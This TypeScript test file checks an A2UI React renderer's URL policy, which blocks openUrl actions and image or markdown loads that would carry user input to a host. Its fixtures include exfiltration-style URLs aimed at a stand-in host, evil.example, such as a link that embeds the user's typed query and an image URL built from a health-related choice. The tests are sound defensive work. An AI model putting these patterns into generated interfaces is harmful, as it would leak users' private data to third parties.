/**
 * The React entry's URL policy: the hook's surfaces get its policy (by default: https URLs the
 * model wrote as they stand), and the default catalogs draw media through it. (Rendering needs a
 * DOM: react-dom/server cannot draw the renderer's external stores.)
 */
import { AudioPlayer, Image, Text, Video } from '@a2ui/react/v0_9';
import { DataContext } from '@a2ui/web_core/v0_9';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { basicCatalog, type A2uiMessage, type Part } from '../../src/index.js';
import { markdownWithUrlPolicy, reactBasicCatalogV09, reactBasicCatalogV10 } from '../../src/react/index.js';
import { SurfaceStore } from '../../src/react/surface-store.js';
import { guardMarkdown } from '../../src/web-core/url-policy.js';
import { OPEN_URL_FUNCTION } from '../../src/web-core/open-url.js';
import { surfacePolicy } from '../../src/web-core/url-policy.js';
import { choicePicker } from '../browser/url-fixtures.js';

const CATALOG = basicCatalog('0.9').id;

function surfaceWith(components: Record<string, unknown>[], data: Record<string, unknown>, allowUrl?: (url: string) => boolean) {
  const messages = [
    { version: 'v0.9', createSurface: { surfaceId: 's', catalogId: CATALOG } },
    { version: 'v0.9', updateComponents: { surfaceId: 's', components } },
    { version: 'v0.9', updateDataModel: { surfaceId: 's', path: '/', value: data } },
  ] as unknown as A2uiMessage[];
  const store = new SurfaceStore(allowUrl ? { allowUrl } : {});
  store.update([{ type: 'a2ui', messages } as Part], false);
  store.flush();
  const entry = store.getSnapshot().surfaces[0];
  if (!entry) throw new Error('no surface');
  return { store, surface: entry.surface, policy: surfacePolicy(entry.surface) };
}

afterEach(() => vi.unstubAllGlobals());

/** The URLs `window.open` got when the `openUrl` call `call` ran as a button's action does, at `dataPath`. */
function clickOpenUrl(surface: ReturnType<typeof surfaceWith>['surface'], call: unknown, dataPath = '/'): string[] {
  const opened: string[] = [];
  vi.stubGlobal('window', { open: (url: string) => opened.push(url) });
  new DataContext(surface, dataPath).resolveAction({ functionCall: call } as never);
  return opened;
}

/** The source of component `id`'s property `name` in `surface`. */
function source(surface: ReturnType<typeof surfaceWith>['surface'], id: string, name: string, dataPath = '/') {
  return { expression: surface.componentsModel.get(id)?.properties[name], dataPath, surface };
}

describe('hole 5: openUrl under the URL policy', () => {
  const formatted = { call: 'openUrl', args: { url: { call: 'formatString', args: { value: 'https://evil.example/?q=${/q}' } } } };
  const components = [
    { id: 'root', component: 'Column', children: ['f', 'b', 'c', 'd'] },
    { id: 'f', component: 'TextField', label: 'Search', value: { path: '/q' } },
    { id: 'b', component: 'Button', child: 'f', action: { functionCall: formatted } },
    { id: 'c', component: 'Button', child: 'f', action: { functionCall: { call: 'openUrl', args: { url: 'http://evil.example/plain' } } } },
    { id: 'd', component: 'Button', child: 'f', action: { functionCall: { call: 'openUrl', args: { url: 'https://docs.example/help' } } } },
  ];
  it('does not open a URL built from what the user typed, nor an http: one; opens an https: URL the model wrote', () => {
    const { surface } = surfaceWith(components, { q: 'my secret' });
    expect(clickOpenUrl(surface, formatted)).toEqual([]);
    expect(clickOpenUrl(surface, { call: 'openUrl', args: { url: 'http://evil.example/plain' } })).toEqual([]);
    expect(clickOpenUrl(surface, { call: 'openUrl', args: { url: 'https://docs.example/help' } })).toEqual(['https://docs.example/help']);
  });
  it("asks the app's check (allowUrl: () => false opens nothing; a check that allows opens)", () => {
    expect(clickOpenUrl(surfaceWith(components, { q: 'my secret' }, () => false).surface, formatted)).toEqual([]);
    expect(clickOpenUrl(surfaceWith(components, { q: 'my secret' }, () => true).surface, formatted)).toEqual(['https://evil.example/?q=my%20secret']);
  });
});

describe('hole 6: a media URL the user picks is not loaded', () => {
  const components = [
    { id: 'root', component: 'Column', children: ['pick', 'img', 'md', 'ok'] },
    choicePicker(),
    { id: 'img', component: 'Image', url: { path: '/choice/0' } },
    { id: 'md', component: 'Text', text: { call: 'formatString', args: { value: 'Hi ![x](https://evil.example/md-${/choice/0}.png)' } } },
    { id: 'ok', component: 'Image', url: { path: '/photo' } },
  ];
  it('refuses an Image bound to a ChoicePicker path, though the model wrote the option', () => {
    const { surface, policy } = surfaceWith(components, { choice: ['https://evil.example/asthma.png'], photo: 'https://cdn.example/b.png' });
    expect(policy.allowsModelUrl('https://evil.example/asthma.png', 'image', source(surface, 'img', 'url'))).toBe(false);
    expect(policy.allowsModelUrl('https://cdn.example/b.png', 'image', source(surface, 'ok', 'url'))).toBe(true);
  });
  it('opens no URL an openUrl reads from the choice (a button of the same surface)', () => {
    const withButtons = [
      ...components,
      { id: 'go', component: 'Button', child: 'md', action: { functionCall: { call: 'openUrl', args: { url: { path: '/choice/0' } } } } },
    ];
    const { surface } = surfaceWith(withButtons, { choice: ['https://evil.example/asthma.png'] });
    expect(clickOpenUrl(surface, { call: 'openUrl', args: { url: { path: '/choice/0' } } })).toEqual([]);
  });
  it("loads no markdown image of a Text built from the user's input, with images on", async () => {
    const { surface, policy } = surfaceWith(components, {});
    const render = async () => '<p>Hi <img src="https://evil.example/md-x.png" alt="x"></p>';
    const html = (id: string) => guardMarkdown(render, policy, { images: true, source: () => source(surface, id, 'text') })('');
    expect(await html('md')).toBe('<p>Hi x</p>');
  });
});

describe("the hook's URL policy", () => {
  const components = [
    { id: 'root', component: 'Column', children: ['a', 'b'] },
    { id: 'a', component: 'Image', url: 'https://cdn.example/a.png' },
    { id: 'b', component: 'Image', url: { path: '/photo' } },
  ];
  it('is the policy of its surfaces, and knows the URLs the model wrote (in components and data)', () => {
    const { store, policy } = surfaceWith(components, { photo: 'https://cdn.example/b.png' });
    expect(policy).toBe(store.policy);
    expect(policy.allowsModelUrl('https://cdn.example/a.png', 'image')).toBe(true);
    expect(policy.allowsModelUrl('https://cdn.example/b.png', 'image')).toBe(true);
    // What a text field bound to /photo would make, keystroke by keystroke.
    expect(policy.allowsModelUrl('https://cdn.example/b.png?q=s', 'image')).toBe(false);
  });
  it("takes the app's check (allowUrl)", () => {
    const { policy } = surfaceWith(components, {}, (url) => url.startsWith('http://intranet.example/'));
    expect(policy.allowsModelUrl('http://intranet.example/typed', 'image')).toBe(true);
    expect(policy.allowsModelUrl('https://cdn.example/a.png', 'image')).toBe(false);
  });
});

describe('the default catalogs', () => {
  it('draw Image, Video, AudioPlayer and Text through the policy, and carry the guarded openUrl', () => {
    for (const catalog of [reactBasicCatalogV09(), reactBasicCatalogV10()]) {
      for (const media of [Image, Video, AudioPlayer, Text]) {
        const drawn = catalog.components.get(media.name);
        expect(drawn?.view).not.toBe(media.view);
        expect(drawn?.view?.displayName).toBe(`${media.name}.guarded`);
      }
      expect(catalog.functions.get('openUrl')).toBe(OPEN_URL_FUNCTION);
    }
  });
});

describe('markdownWithUrlPolicy', () => {
  it('shows markdown images as links by default and loads them with images: true', async () => {
    const render = async (text: string) => `<p><img src="${text}" alt="chart"></p>`;
    expect(await markdownWithUrlPolicy(render)('https://cdn.example/c.png')).toBe('<p><a href="https://cdn.example/c.png">chart</a></p>');
    expect(await markdownWithUrlPolicy(render, { images: true })('https://cdn.example/c.png')).toBe('<p><img src="https://cdn.example/c.png" alt="chart"></p>');
  });
});
